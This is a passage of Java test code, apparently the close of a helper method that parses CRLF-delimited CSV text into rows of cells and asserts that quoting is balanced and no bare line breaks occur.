				row.add(cell.toString());
				cell.setLength(0);
			}
			else if (c == '\r' && i + 1 < text.length() && text.charAt(i + 1) == '\n') {
				row.add(cell.toString());
				cell.setLength(0);
				rows.add(row);
				row = new ArrayList<>();
				i++;
			}
			else {
				assertThat(c).as("a bare line break").isNotIn('\r', '\n');
				cell.append(c);
			}
		}
		assertThat(quoted).isFalse();
		assertThat(row).isEmpty();
		return rows;
	}

}
